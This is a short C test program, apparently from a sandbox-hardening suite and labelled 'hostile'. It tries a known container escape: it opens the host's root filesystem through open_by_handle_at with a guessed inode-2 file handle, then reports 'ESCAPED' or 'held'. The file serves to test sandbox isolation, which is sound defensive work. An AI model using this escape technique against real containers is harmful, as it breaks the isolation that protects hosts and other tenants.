/*
 * hostile: opens the root of the file system below the box by a guessed file handle, past every mount
 * class: ptrace, process_vm, perf, bpf, userfaultfd, keyctl, io_uring
 * verdicts: SV
 * evidence: syscall:open_by_handle_at
 * invariant: files are reached by paths only
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 8];
	} root;
	const unsigned inode_two[2] = { 2, 0 };
	const int here = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	memset(&root, 0, sizeof(root));
	root.handle.handle_bytes = 8;
	root.handle.handle_type = 1;
	memcpy(root.handle.f_handle, inode_two, sizeof(inode_two));
	puts(open_by_handle_at(here, &root.handle, O_RDONLY) >= 0 ? "ESCAPED: the root of the host" : "held");
	return 0;
}
